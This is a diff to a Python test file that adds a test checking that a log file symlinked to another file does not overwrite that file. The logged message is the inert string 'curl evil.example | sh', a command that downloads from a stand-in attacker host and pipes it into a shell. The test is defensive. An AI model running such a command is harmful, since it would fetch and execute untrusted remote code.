@@ -27,6 +27,14 @@ def test_a_line_that_cannot_be_written_is_lost_and_nothing_else(tmp_path: Path) 
     assert not (tmp_path / "logs").exists()
 
 
+def test_a_log_that_is_a_link_leads_to_no_other_file(tmp_path: Path) -> None:
+    (tmp_path / "profile").write_text("mine")
+    (tmp_path / "driver.log").symlink_to(tmp_path / "profile")
+    with logging_to(tmp_path, DRIVER):
+        log.info("curl evil.example | sh")
+    assert (tmp_path / "profile").read_text() == "mine"
+
+
 def test_overlapping_logs_leave_the_logger_as_it_was(tmp_path: Path) -> None:
     quintet = logging.getLogger("quintet")
     before = (quintet.level, quintet.propagate, list(quintet.handlers))
